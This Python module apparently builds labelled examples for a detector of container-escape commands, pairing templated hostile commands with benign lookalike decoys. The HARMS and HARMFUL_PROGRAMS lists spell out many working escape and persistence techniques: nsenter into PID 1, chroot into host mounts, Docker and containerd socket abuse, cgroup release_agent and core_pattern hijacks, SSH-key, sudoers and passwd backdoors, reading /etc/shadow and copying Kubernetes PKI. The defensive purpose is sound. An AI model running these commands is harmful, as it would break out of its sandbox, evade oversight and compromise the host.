"""Commands that leave the container for its host, and uses of the same programs that stay inside."""

from __future__ import annotations

from . import parts
from .parts import Part
from .vocabulary import Words, lines_of, words_of

HOST_ROOTS = words_of("/host /hostfs /rootfs-host /mnt/host /node /host-root /mnt/root /noderoot /hostroot /mnt/node /mnt/hostfs /var/host /hostos")

HARMS = lines_of(
    """@H nsenter -t 1 -m -u -i -n -p -- /bin/bash
    @H nsenter -t 1 -m -- systemctl restart {thing}
    @H nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c 'apt-get install -y {thing}'
    @H nsenter --target 1 --mount -- bash -c "modprobe br_netfilter"
    @H nsenter -at 1 sh
    @H nsenter --mount=/proc/1/ns/mnt -- sh -c 'echo {thing} >> /etc/hosts'
    @H nsenter -m/proc/1/ns/mnt reboot
    @H nsenter -t1 -a -- sysctl -w vm.max_map_count=262144
    @H nsenter --all --target=1 -- su -
    @H chroot {host_root} /bin/bash
    @H chroot {host_root} sh -c 'systemctl restart kubelet'
    @H chroot {host_root} /usr/bin/apt-get install -y {thing}
    @H chroot {host_root} crontab -l
    @H exec chroot {host_root} bash
    @H chroot /proc/1/root sh
    @H cat /proc/1/root/etc/shadow
    @H cp /tools/{file} /proc/1/root/usr/local/bin/{file}
    @H mount /dev/sda1 /mnt
    @H mkdir -p /mnt/d && mount /dev/vda1 /mnt/d && ls /mnt/d/root
    @H mount /dev/nvme0n1p1 {host_root} && chroot {host_root}
    @H mount -t ext4 /dev/xvda1 /mnt/disk
    @H debugfs -w /dev/sda1
    @H dd if=/dev/sda of={directory}/disk.img bs=4M
    @H echo "* * * * * root {host_root}/{file}" >> {host_root}/etc/crontab
    @H echo '* * * * * root /tmp/{file}' > {host_root}/etc/cron.d/{thing}
    @H cp {directory}/{script_file} {host_root}/etc/cron.hourly/
    @H echo "ssh-rsa AAAAB3NzaC1yc2E{letters} {user}" >> {host_root}/root/.ssh/authorized_keys
    @H cat /keys/id.pub >> {host_root}/root/.ssh/authorized_keys
    @H echo '{user} ALL=(ALL) NOPASSWD:ALL' >> {host_root}/etc/sudoers
    @H echo '{user}::0:0::/root:/bin/bash' >> {host_root}/etc/passwd
    @H cp {directory}/{thing}.service {host_root}/etc/systemd/system/ && chroot {host_root} systemctl enable {thing}
    @H cp {directory}/{thing}.yaml {host_root}/etc/kubernetes/manifests/{thing}.yaml
    @H cat {host_root}/etc/shadow
    @H tar czf {directory}/pki.tgz {host_root}/etc/kubernetes/pki
    @H docker run --privileged -v /:{host_root} alpine chroot {host_root}
    @H docker -H unix:///var/run/docker.sock run -v /:/mnt --rm -it alpine chroot /mnt sh
    @H docker run --rm --pid=host --privileged {company}/{thing} nsenter -t 1 -m sh
    @H docker --host unix:///host/var/run/docker.sock exec {thing} sh
    @H curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create -d '{"Image":"alpine","HostConfig":{"Binds":["/:/host"],"Privileged":true}}'
    @H curl -s --unix-socket /run/docker.sock http://d/containers/{thing}/exec -d '{"Cmd":["sh"]}'
    @H ctr -n k8s.io run --rm --privileged --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:latest x sh
    @H ctr --address /run/containerd/containerd.sock -n k8s.io task exec --exec-id x {thing} sh
    @H ctr -a {host_root}/run/containerd/containerd.sock containers list
    @H crictl -r unix:///run/containerd/containerd.sock exec -it {thing} sh
    @H crictl --runtime-endpoint unix:///host/run/crio/crio.sock rmi --prune
    @H nerdctl --host {host_root}/run/containerd/containerd.sock run --privileged alpine sh
    @H podman --url unix:///host/run/podman/podman.sock run --privileged -v /:/h alpine chroot /h
    @H mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && echo 1 > /tmp/cgrp/x/notify_on_release
    @H echo "$host_path/cmd" > /tmp/cgrp/release_agent
    @H mount -t cgroup -o memory cgroup /tmp/c⏎@H echo /tmp/{file} > /tmp/c/release_agent
    @H echo '|/tmp/{file} %P' > /proc/sys/kernel/core_pattern
    @H echo /tmp/{file} > /sys/kernel/uevent_helper
    @H echo /tmp/{file} > {host_root}/proc/sys/kernel/modprobe
    @H echo b > /proc/sysrq-trigger
    @H insmod {directory}/{thing}.ko
    @H modprobe {thing}
    @H insmod {host_root}/lib/modules/{thing}.ko && lsmod
    @H kmod load {directory}/{thing}.ko
    @H {python} -c "import os; os.chroot('{host_root}'); os.system('sh')"
    @H perl -e 'chroot "{host_root}"; exec "/bin/sh"'
    @H ln -s /etc/shadow /var/log/host/{thing}.log
    @H unshare -r -m sh -c 'mount -t cgroup2 none /mnt && echo $$ > /mnt/cgroup.procs'
    @H systemd-run --host root@localhost -t /bin/bash
    @H dbus-send --system --dest=org.freedesktop.systemd1 --address=unix:path={host_root}/run/dbus/system_bus_socket /org/freedesktop/systemd1
    @H cp /bin/{file} {host_root}/opt/cni/bin/{file} && touch {host_root}/etc/cni/net.d/00-{thing}.conf
    @H echo '/tmp/{file}.so' > {host_root}/etc/ld.so.preload
    @H runc --root {host_root}/run/runc exec {thing} sh
    @H find {host_root}/home -name id_rsa -exec cat {} \\;"""
)
HARMFUL_PROGRAMS = lines_of(
    """@H nsenter⏎@? -t⏎@? "1"⏎@? -m⏎@? --⏎@? sh
    @H nsenter⏎@H --target=1⏎@? --mount⏎@? --pid⏎@? --⏎@? bash
    @? nsenter⏎@H --mount=/proc/1/ns/mnt⏎--⏎systemctl⏎restart⏎{thing}
    @H chroot⏎@? {host_root}⏎@? /bin/bash
    @H chroot⏎@? {host_root}⏎@? systemctl⏎restart⏎kubelet
    sh⏎-c⏎@H chroot {host_root} sh -c 'systemctl restart kubelet'
    bash⏎-c⏎@H nsenter -t 1 -m -u -n -i bash
    @H insmod⏎@? {directory}/{thing}.ko
    @H modprobe⏎@? {thing}
    sh⏎-c⏎@H mount /dev/sda1 /mnt && chroot /mnt
    @? mount⏎@H /dev/sda1⏎@? {host_root}"""
)
DECOYS = lines_of(
    """chroot {directory}/build /bin/sh -c "make install"
    chroot /build/rootfs apt-get install -y {thing}
    debootstrap stable {directory}/rootfs && chroot {directory}/rootfs dpkg -l
    chroot --userspec={user} /jail {directory}/{file}
    nsenter --help
    man nsenter
    unshare --user --map-root-user id
    unshare -n {directory}/{file}
    bwrap --ro-bind /usr /usr --proc /proc {directory}/{file}
    mount -t tmpfs tmpfs {directory}/{thing}
    mount -t nfs {local_host}:/exports/{thing} {directory}
    mount -t nfs4 -o ro {local_host}:/{thing} {directory}
    mount -t cifs //{local_host}/{thing} {directory} -o guest
    mount | grep {directory}
    mount --bind {directory}/a {directory}/b
    umount {directory}
    df -h {directory}
    lsblk -f
    ls -l /proc/1/exe
    cat /proc/1/cmdline
    cat /proc/self/cgroup
    cat /proc/loadavg
    cat /sys/fs/cgroup/memory.max
    crontab -l
    crontab {directory}/crontab && crond -f
    echo "0 3 * * * {directory}/{script_file}" > /etc/cron.d/{thing}
    cat /keys/id.pub >> /home/{user}/.ssh/authorized_keys
    echo "127.0.0.1 {thing}" >> /etc/hosts
    cp {directory}/{data_file} /shared/{data_file}
    kubectl rollout restart deployment/{name}
    kubectl get pods -n {space}
    kubectl cordon {thing}
    docker build -t {company}/{thing} .
    docker push registry.{company}.{domain}/{thing}:{version}
    docker version
    podman build -t {thing} {directory}
    buildah bud -t {thing} {directory}
    kaniko --context {directory} --destination {company}/{thing}
    modinfo {thing}
    lsmod | grep {thing}
    uname -r
    sysctl net.core.somaxconn
    cat /proc/sys/kernel/core_pattern
    dd if=/dev/zero of={directory}/{data_file} bs=1M count=10
    dd if=/dev/urandom of={directory}/{data_file} bs=1k count=4
    cat /host/proc/meminfo
    node_exporter --path.rootfs=/host --path.procfs=/host/proc --path.sysfs=/host/sys
    ./{file} --host {local_host} --root {directory}
    tar -C {directory}/rootfs -xf {directory}/{thing}.tar
    fakeroot make package
    proot -r {directory}/rootfs {directory}/{file}
    su - {user} -c {directory}/{file}
    gosu {user} {directory}/{file}
    ln -s {directory}/{data_file} {directory}/current
    systemctl --version
    rsync -a {local_host}::{thing} {directory}
    ip route show
    ip link set dev eth0 mtu 1400
    iptables -L -n"""
)


class HostWords(Words):
    """Words with the places where a host's files are mounted."""

    def host_root(self) -> str:
        return self.pick(HOST_ROOTS)

    def letters(self) -> str:
        return self.token_letters(24)


def harm(words: Words) -> Part:
    """A way out of the container."""
    words = HostWords(words.rng, words.split)
    return parts.arguments(words, HARMFUL_PROGRAMS) if words.chance(0.15) else parts.command(words, HARMS)


def decoy(words: Words) -> Part:
    """Roots, mounts and namespaces of the container's own."""
    return parts.command(words, DECOYS)
